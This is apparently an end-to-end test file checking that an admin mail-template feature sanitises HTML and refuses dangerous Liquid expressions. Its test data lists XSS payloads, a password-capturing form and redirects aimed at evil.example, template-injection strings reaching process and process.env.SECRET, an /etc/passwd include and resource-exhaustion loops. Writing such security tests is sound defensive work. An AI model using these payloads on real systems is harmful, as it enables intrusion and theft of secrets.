import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createDoer } from "@/e2e/fixtures/administrators";
import { openTestDatabase } from "@/e2e/fixtures/database";
import { newAppWithRealm } from "@/e2e/fixtures/visits";
import { type MailTemplateInput, previewMailTemplate, setMailTemplate } from "@/lib/admin/mail-templates";
import { db } from "@/lib/db/client";

let close: () => Promise<void>;
let doer: Awaited<ReturnType<typeof createDoer>>;
let realmId: string;
beforeAll(async () => {
  close = await openTestDatabase();
  doer = await createDoer();
  ({ realmId } = await newAppWithRealm());
});
afterAll(() => close());

const template = (given: Partial<MailTemplateInput>): MailTemplateInput => ({
  event_type: "user.password_token.created",
  locale: "en",
  renderer: "html",
  subject: "s",
  body: "b",
  ...given,
});

describe("security 101: what an owner's HTML may hold", () => {
  test.each([
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    `<img src="x" onerror="alert(1)">`,
    `<img src="http://evil.example/x">`,
    `<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<object data="https://evil.example"></object><embed src="https://evil.example">`,
    `<form action="https://evil.example"><input name="password"><button>x</button></form>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`,
    `<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css";</style>`,
    `<video poster="https://evil.example"><source src="https://evil.example"></video>`,
    `<a href="https://ok.example" onclick="alert(1)" ping="https://evil.example">x</a>`,
    `</div></body></html><script>alert(1)</script>`,
    `<!--><script>alert(1)</script>-->`,
    `<noscript><p title="</noscript><script>alert(1)</script>"></noscript>`,
    `<textarea></textarea><script>alert(1)</script>`,
  ])("%s", async (body) => {
    for (const renderer of ["html", "markdown"]) {
      const outcome = previewMailTemplate(template({ renderer, body: `before ${body} after` }));
      if (!outcome.ok) throw new Error(JSON.stringify(outcome.problems));
      const { html, text } = outcome.value;
      const [, inner = ""] = /<body[^>]*>([\s\S]*)<\/body>/.exec(html) ?? [];
      expect(inner, html).not.toMatch(
        /<(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|video|source|noscript|textarea)\b|<[^>]*\son\w+=|evil\.example/i,
      );
      expect(html.match(/<\/body>/g)).toHaveLength(1);
      expect(text).toMatch(/^before/);
    }
  });
});

describe("security 101: no way into the program", () => {
  test.each([
    "{{constructor}}",
    "{{ constructor.constructor('return process')() }}",
    "{{ user.constructor }}",
    "{{ user.__proto__ }}",
    "{{ user['constructor'] }}",
    "{{ user.name.constructor }}",
    "{{ user.name.length }}",
    "{{ user[token] }}",
    "{{ link.size }}",
    "{{ toString }}",
    "{{ env }}",
    "{{ process.env.SECRET }}",
    "{{ hours }}",
    "{{ 'x' | raw }}",
    "{{ user.name | raw }}",
    "{{ user.name | url_decode }}",
    "{{ user.name | json }}",
    "{{ user.name | constructor }}",
    "{% include 'package.json' %}",
    "{% render '/etc/passwd' %}",
    "{% layout 'x' %}",
    "{% block x %}{% endblock %}",
    "{% echo user.name %}",
    "{% liquid echo user.name %}",
    "{% cycle user.name, 'x' %}",
    "{% assign x = user.name %}",
    "{% capture x %}{% endcapture %}",
    "{% for i in (1..100000000) %}x{% endfor %}",
    "{% tablerow i in (1..10) %}x{% endtablerow %}",
    "{% increment x %}",
    "{{ link",
    "{% if link %}",
    "{% constructor %}",
    "{% if x.y %}{% endif %}",
    "{% case user.name %}{% when constructor %}{% endcase %}",
    "{{ 'a' | append: process }}",
  ])("%s is refused when it is saved", async (body) => {
    for (const renderer of ["markdown", "html", "text"]) {
      const outcome = await setMailTemplate(realmId, template({ renderer, body }), doer);
      expect(outcome).toMatchObject({ ok: false, problems: [{ field: "body" }] });
    }
    expect(await setMailTemplate(realmId, template({ subject: body }), doer)).toMatchObject({
      ok: false,
      problems: [{ field: "subject" }],
    });
    expect(await db().mailTemplate.count({ where: { realmId } })).toBe(0);
  });

  test("a template that grows without end is stopped", async () => {
    const body = `{{ 'x' ${"| append: 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' ".repeat(400)} }}`;
    const started = performance.now();
    previewMailTemplate(template({ body }));
    expect(previewMailTemplate(template({ body: "{% if true %}".repeat(1_500) }))).toMatchObject({ ok: false });
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
